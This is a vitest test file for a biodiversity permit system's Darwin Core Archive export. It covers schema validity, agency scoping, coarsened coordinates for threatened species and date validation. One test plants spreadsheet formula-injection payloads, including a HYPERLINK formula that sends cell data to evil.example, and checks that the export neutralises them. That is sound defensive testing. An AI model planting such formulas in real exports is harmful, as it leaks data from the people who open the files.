import { unzipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { addDays, manilaDate } from '../../src/clock/manila-time.js';
import { actOk, aMember, type Member } from '../helpers/actions.js';
import { type AttachmentTestApp, createAttachmentTestApp } from '../helpers/attachments.js';
import { testDialects } from '../helpers/databases.js';
import { aLocation } from '../helpers/factories.js';
import { anIssuedPermit, aSpecimenRow, type IssuedPermit, obligationOfType, submitAsAgency } from '../helpers/obligations.js';
import { BASE_URL, permitEnv } from '../helpers/permits.js';
import { json, type TestApp } from '../helpers/test-app.js';
import { validateXml, xmllintInstalled } from '../helpers/xml-schemas.js';

/**
 * The Darwin Core Archive of accepted collection reports (issue 20 §4), downloaded through HTTP and
 * read back as GBIF's validator reads one: the ZIP's files, meta.xml's fields against the data files'
 * columns, eml.xml naming the authority, only accepted reports of permits issued in the range, a
 * threatened species' coordinates generalised, the permit's public URI on every occurrence.
 */
const TEST_TIMEOUT_MS = 180_000;

interface Table {
  readonly header: string[];
  readonly rows: Record<string, string>[];
}

function tableOf(text: string): Table {
  const [first = '', ...lines] = text.split('\n').filter((line) => line !== '');
  const header = first.split('\t');
  return { header, rows: lines.map((line) => Object.fromEntries(line.split('\t').map((value, i) => [header[i] as string, value]))) };
}

/** meta.xml's fields of one file (core or extension): index → term's local name, and the id column. */
function fieldsOf(meta: string, element: 'core' | 'extension'): { id: number; fields: Map<number, string>; location: string } {
  const block = new RegExp(`<${element}\\b[\\s\\S]*?</${element}>`).exec(meta)?.[0] ?? '';
  const fields = new Map<number, string>();
  for (const match of block.matchAll(/<field index="(\d+)" term="([^"]+)"\/>/g)) {
    const term = match[2] as string;
    fields.set(Number(match[1]), term.slice(term.lastIndexOf('/') + 1));
  }
  const id = Number(/<(?:id|coreid) index="(\d+)"\/>/.exec(block)?.[1]);
  const location = /<location>([^<]+)<\/location>/.exec(block)?.[1] ?? '';
  return { id, fields, location };
}

describe.each(testDialects)('the Darwin Core Archive (%s)', (dialect) => {
  let x: AttachmentTestApp;
  let t: TestApp;
  let approver: Member;
  let evaluator: Member;
  let chief: Member;

  beforeAll(async () => {
    x = await createAttachmentTestApp(dialect, 'filesystem', permitEnv());
    t = x.t;
    approver = await aMember(t, ['approver']);
    evaluator = await aMember(t, ['evaluator']);
    chief = await aMember(t, ['chief']);
  }, TEST_TIMEOUT_MS);
  afterAll(async () => x?.close());

  const download = (who: Member, query: string) => t.app.inject({ url: `/api/v1/staff/exports/dwca?${query}`, headers: who.headers });
  const exportsAudited = async () =>
    (await t.database.db.selectFrom('audit_events').select('id').where('action', '=', 'darwin_core_archive.exported').execute()).length;

  async function reportOf(p: IssuedPermit, specimens: Record<string, unknown>[]) {
    const report = await obligationOfType(t, p, 'collection_report');
    const response = await submitAsAgency(t, p, report.id, { specimens: JSON.stringify(specimens) });
    expect(response.statusCode, response.body).toBe(201);
    return { obligationId: report.id, submissionId: json<{ id: string }>(response).id };
  }

  it(
    'parses back: meta.xml matches the columns, eml.xml names the authority, only accepted reports in the range and the user’s agencies, threatened species generalised, the public URI on every row',
    async () => {
      // The permit authorises both species at Los Baños (issue 28: the archive leaves out what the terms do not).
      const accepted = await anIssuedPermit(t, approver, {
        locations: [
          aLocation({
            species: [{ scientificName: 'Platymantis luzonensis' }, { scientificName: 'Pithecophaga jefferyi Ogilvie-Grant, 1896' }],
          }),
        ],
      });
      const threatenedRow = aSpecimenRow({
        scientificName: 'Pithecophaga jefferyi Ogilvie-Grant, 1896',
        count: 1,
        unit: 'feathers',
        location: { province: 'Laguna', cityOrMunicipality: 'Los Baños', latitude: 14.1486, longitude: 121.2158 },
      });
      const report = await reportOf(accepted, [aSpecimenRow(), threatenedRow]);
      await actOk(t, evaluator, accepted.receipt.id, { action: 'accept_obligation', obligationId: report.obligationId });
      // Submitted, never accepted: not in the archive.
      const pending = await anIssuedPermit(t, approver);
      const notAccepted = await reportOf(pending, [aSpecimenRow()]);

      const permit = await t.database.db.selectFrom('permits').selectAll().where('id', '=', accepted.permitId).executeTakeFirstOrThrow();
      const issuedOn = manilaDate(permit.date_issued as string);
      const before = await exportsAudited();
      const response = await download(chief, `issuedFrom=${issuedOn}&issuedTo=${issuedOn}`);
      expect(response.statusCode, response.body).toBe(200);
      expect(response.headers['content-type']).toBe('application/zip');
      expect(response.headers['content-disposition']).toBe(`attachment; filename="darwin-core-${issuedOn}-${issuedOn}.zip"`);
      expect(await exportsAudited()).toBe(before + 1);

      const files = unzipSync(new Uint8Array(response.rawPayload));
      expect(Object.keys(files)).toEqual(['meta.xml', 'eml.xml', 'occurrence.txt', 'permit.txt']);
      const text = (name: string) => new TextDecoder().decode(files[name]);
      const meta = text('meta.xml');
      const occurrences = tableOf(text('occurrence.txt'));
      const permits = tableOf(text('permit.txt'));

      // meta.xml describes each data file's columns exactly, in order.
      expect(meta).toContain('rowType="http://rs.tdwg.org/dwc/terms/Occurrence"');
      expect(meta).toContain('rowType="http://data.ggbn.org/schemas/ggbn/terms/Permit"');
      const core = fieldsOf(meta, 'core');
      expect(core.location).toBe('occurrence.txt');
      expect(core.id).toBe(0);
      expect(occurrences.header.map((_, i) => core.fields.get(i))).toEqual(occurrences.header);
      expect(core.fields.size).toBe(occurrences.header.length);
      const extension = fieldsOf(meta, 'extension');
      expect(extension.location).toBe('permit.txt');
      expect(extension.id).toBe(0);
      expect(permits.header[0]).toBe('coreid');
      expect(permits.header.slice(1)).toEqual([...extension.fields.values()]);
      expect([...extension.fields.keys()]).toEqual(permits.header.slice(1).map((_, i) => i + 1));
      for (const table of [occurrences, permits]) {
        expect(table.rows.every((row) => Object.keys(row).length === table.header.length)).toBe(true);
      }

      const eml = text('eml.xml');
      expect(eml).toContain(
        '<organizationName>Biodiversity Management Bureau, Department of Environment and Natural Resources</organizationName>',
      );
      expect(eml).toContain('xmlns:eml="https://eml.ecoinformatics.org/eml-2.2.0"');
      // The licence, machine-readable as the IPT writes it (setting exports.darwin_core, CC-BY 4.0 by default).
      expect(eml).toContain(
        '<ulink url="http://creativecommons.org/licenses/by/4.0/legalcode"><citetitle>Creative Commons Attribution (CC-BY 4.0) 4.0</citetitle></ulink>',
      );
      expect(eml).toContain('<identifier>CC-BY-4.0</identifier>');
      // Both files valid against the published schemas (test/fixtures/schemas/), read by xmllint.
      if (xmllintInstalled) {
        const metaVerdict = validateXml(meta, 'meta');
        expect(metaVerdict.valid, metaVerdict.report).toBe(true);
        const emlVerdict = validateXml(eml, 'eml');
        expect(emlVerdict.valid, emlVerdict.report).toBe(true);
      }

      // Only the accepted report's rows, one occurrence per specimen row.
      const ids = occurrences.rows.map((row) => row.occurrenceID);
      expect(ids).toEqual([1, 2].map((n) => `urn:biopermit:specimen:${report.submissionId}:${n}`));
      expect(ids.some((id) => id?.includes(notAccepted.submissionId))).toBe(false);
      const [plain, threatened] = occurrences.rows;
      expect(plain).toMatchObject({
        scientificName: 'Platymantis luzonensis',
        basisOfRecord: 'MaterialSample',
        organismQuantity: '4',
        organismQuantityType: 'tissue samples',
        eventDate: '2026-12-02',
        countryCode: 'PH',
        stateProvince: 'Laguna',
        municipality: 'Los Baños',
        locality: 'Batong Malake',
        decimalLatitude: '14.1486',
        decimalLongitude: '121.2158',
        dataGeneralizations: '',
        // The Darwin Core terms of 2025: the material's kind, and the permit as the collecting project.
        materialEntityType: 'tissue samples',
        projectTitle: `${permit.title} ${permit.permit_no}`,
        projectID: `${BASE_URL}/api/v1/public/permits/${encodeURIComponent(permit.permit_no)}`,
        fundingAttribution: '',
        feedbackURL: `${BASE_URL}/api/v1/public/permits/${encodeURIComponent(permit.permit_no)}`,
      });
      expect(meta).toContain('term="http://rs.tdwg.org/ac/terms/fundingAttribution"');
      expect(threatened).toMatchObject({ decimalLatitude: '14.1', decimalLongitude: '121.2', locality: '' });
      expect(threatened?.dataGeneralizations).toContain('generalised to 0.1 degree');
      expect(threatened?.dataGeneralizations).toContain('Pithecophaga jefferyi is a threatened species (CR)');
      expect(threatened?.dataGeneralizations).toContain('DENR Administrative Order No. 2019-09');

      // Every occurrence has its collecting permit, by the permit's public URI, which answers.
      const publicUri = `${BASE_URL}/api/v1/public/permits/${encodeURIComponent(permit.permit_no)}`;
      expect(permits.rows.map((row) => [row.coreid, row.permitType, row.permitStatus, row.permitStatusQualifier, row.permitURI])).toEqual(
        ids.map((id) => [id, 'Collecting Permit', 'Permit available', '', publicUri]),
      );
      expect(permits.rows[0]?.permitText).toContain(permit.permit_no);
      // The permit's status on the day of the export: this one is in force.
      expect(permits.rows[0]?.permitText).toMatch(/\. Permit status: in force\.$/);
      const lookup = await t.app.inject({ url: publicUri.slice(BASE_URL.length) });
      expect(lookup.statusCode).toBe(200);
      expect(json<{ permitNo: string }>(lookup).permitNo).toBe(permit.permit_no);

      // A chief limited to another agency gets an archive without this agency's reports.
      const { agency: elsewhere } = await t.agencyWithToken();
      const outsider = await aMember(t, ['chief'], [elsewhere]);
      const limited = await download(outsider, `issuedFrom=${issuedOn}&issuedTo=${issuedOn}`);
      expect(limited.statusCode).toBe(200);
      const theirs = unzipSync(new Uint8Array(limited.rawPayload));
      expect(tableOf(new TextDecoder().decode(theirs['occurrence.txt'])).rows).toEqual([]);

      // A range that ends the day before the permit's issue has no occurrence.
      const earlier = await download(chief, `issuedFrom=${addDays(issuedOn, -30)}&issuedTo=${addDays(issuedOn, -1)}`);
      expect(earlier.statusCode).toBe(200);
      const empty = unzipSync(new Uint8Array(earlier.rawPayload));
      expect(tableOf(new TextDecoder().decode(empty['occurrence.txt'])).rows).toEqual([]);
      expect(tableOf(new TextDecoder().decode(empty['permit.txt'])).rows).toEqual([]);
    },
    TEST_TIMEOUT_MS,
  );

  it.skipIf(!xmllintInstalled)(
    'the schema check really runs: an eml.xml or meta.xml broken in one place is refused, naming what is wrong',
    async () => {
      const response = await download(chief, 'issuedFrom=2026-01-01&issuedTo=2026-01-02');
      expect(response.statusCode, response.body).toBe(200);
      const files = unzipSync(new Uint8Array(response.rawPayload));
      const eml = new TextDecoder().decode(files['eml.xml']);
      const meta = new TextDecoder().decode(files['meta.xml']);
      expect(validateXml(eml, 'eml').valid).toBe(true);
      expect(validateXml(meta, 'meta').valid).toBe(true);

      // The profile requires pubDate, and a licence it does not know is no licence.
      const noPubDate = validateXml(eml.replace(/<pubDate>[^<]*<\/pubDate>/, ''), 'eml');
      expect(noPubDate.valid).toBe(false);
      expect(noPubDate.report).toContain('pubDate');
      const wrongNamespace = validateXml(
        eml.replace('https://eml.ecoinformatics.org/eml-2.2.0"', 'eml://ecoinformatics.org/eml-2.1.1"'),
        'eml',
      );
      expect(wrongNamespace.valid).toBe(false);
      const badFrequency = validateXml(
        eml.replace(
          '</licensed>',
          '</licensed><maintenance><description><para>x</para></description><maintenanceUpdateFrequency>hourly</maintenanceUpdateFrequency></maintenance>',
        ),
        'eml',
      );
      expect(badFrequency.valid).toBe(false);
      expect(badFrequency.report).toContain('hourly');
      // meta.xml: a field without its term.
      const noTerm = validateXml(meta.replace(/ term="[^"]+"/, ''), 'meta');
      expect(noTerm.valid).toBe(false);
      expect(noTerm.report).toContain('term');
    },
    TEST_TIMEOUT_MS,
  );

  it(
    'writes no cell a spreadsheet would run as a formula, keeps negative coordinates as numbers, and no separator inside a value',
    async () => {
      const hostileName = '=HYPERLINK("https://evil.example/?"&A1,"Platymantis")';
      const hostilePlace = {
        province: '-2+3 Laguna',
        cityOrMunicipality: 'Los\u000bBaños\u000cof\u0085the\u2028Lake\u2029Region\u001eEnd',
      };
      // The agency's own submission named them, so the permit's terms authorise the row (the archive keeps it).
      const p = await anIssuedPermit(t, approver, {
        locations: [aLocation({ ...hostilePlace, species: [{ scientificName: hostileName }] })],
      });
      const hostile = aSpecimenRow({
        scientificName: hostileName,
        unit: '+1 tissue samples',
        state: '@SUM(A1:A9)',
        location: {
          ...hostilePlace,
          barangay: ' =1+1',
          latitude: -12.5,
          longitude: -121.25,
        },
      });
      const report = await reportOf(p, [hostile]);
      await actOk(t, evaluator, p.receipt.id, { action: 'accept_obligation', obligationId: report.obligationId });
      const permit = await t.database.db.selectFrom('permits').selectAll().where('id', '=', p.permitId).executeTakeFirstOrThrow();
      const issuedOn = manilaDate(permit.date_issued as string);
      const response = await download(chief, `issuedFrom=${issuedOn}&issuedTo=${issuedOn}`);
      expect(response.statusCode, response.body).toBe(200);
      const files = unzipSync(new Uint8Array(response.rawPayload));
      const occurrenceText = new TextDecoder().decode(files['occurrence.txt']);
      // Nothing a reader could take for a line or field break but the archive's own tabs and line feeds.
      expect(occurrenceText).not.toMatch(/[^\P{Cc}\t\n]|[\u2028\u2029]/u);
      const occurrences = tableOf(occurrenceText);
      expect(occurrences.rows.every((row) => Object.keys(row).length === occurrences.header.length)).toBe(true);
      const row = occurrences.rows.find((r) => r.occurrenceID === `urn:biopermit:specimen:${report.submissionId}:1`);
      expect(row).toMatchObject({
        scientificName: `'=HYPERLINK("https://evil.example/?"&A1,"Platymantis")`,
        organismQuantity: '4',
        organismQuantityType: "'+1 tissue samples",
        preparations: "'@SUM(A1:A9)",
        stateProvince: "'-2+3 Laguna",
        municipality: 'Los Baños of the Lake Region End',
        locality: "' =1+1",
        decimalLatitude: '-12.5',
        decimalLongitude: '-121.25',
      });
    },
    TEST_TIMEOUT_MS,
  );

  it(
    'refuses dates that are not calendar dates, a range that ends before it starts, a missing date and the roles without it, auditing nothing',
    async () => {
      const before = await exportsAudited();
      const problem = (response: { body: string }) =>
        JSON.parse(response.body) as { code: string; errors?: { parameter?: string; detail: string }[] };

      const notADate = await download(chief, 'issuedFrom=2026-02-30&issuedTo=2026-03-31');
      expect(notADate.statusCode).toBe(400);
      expect(problem(notADate).errors?.map((e) => e.parameter)).toEqual(['issuedFrom']);
      const words = await download(chief, 'issuedFrom=2026-01-01&issuedTo=yesterday');
      expect(words.statusCode).toBe(400);
      expect(problem(words).errors?.map((e) => e.parameter)).toEqual(['issuedTo']);
      const backwards = await download(chief, 'issuedFrom=2026-06-01&issuedTo=2026-05-31');
      expect(backwards.statusCode).toBe(400);
      expect(problem(backwards).errors).toEqual([{ parameter: 'issuedTo', detail: 'is before issuedFrom (2026-06-01)' }]);
      const missing = await download(chief, 'issuedFrom=2026-01-01');
      expect(missing.statusCode).toBe(400);
      expect(problem(missing).errors?.map((e) => e.parameter)).toEqual(['issuedTo']);
      const refused = await download(evaluator, 'issuedFrom=2026-01-01&issuedTo=2026-12-31');
      expect(refused.statusCode).toBe(403);
      expect(problem(refused).code).toBe('not_permitted');

      expect(await exportsAudited()).toBe(before);
    },
    TEST_TIMEOUT_MS,
  );
});
